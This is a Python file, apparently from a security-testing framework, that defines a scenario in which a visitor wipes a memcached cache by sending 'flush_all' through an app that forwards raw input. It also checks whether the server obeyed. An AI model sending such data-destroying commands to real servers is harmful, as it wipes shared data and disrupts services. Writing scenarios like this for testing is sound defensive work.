"""G8: a visitor empties a memcached, through an app that forwards raw input."""

from backwatch.attack.protocols.server import HostileServer
from backwatch.attack.scenarios.memcached.dump import MemcachedDump


class MemcachedFlushed(MemcachedDump):
    """``flush_all`` needs no permission."""

    attack = "empties a cache that everybody waits for"
    reference = "https://github.com/memcached/memcached/blob/master/doc/protocol.txt; ATT&CK T1485"
    rule = "data-destroyed"

    def meet(self) -> object:
        """Send what the attacker types."""
        return self.hand_on("flush_all", b"\r\n")

    @classmethod
    def succeeded(cls, service: HostileServer, got: object) -> bool:
        """Return whether the server obeyed."""
        del service
        return got == "OK"
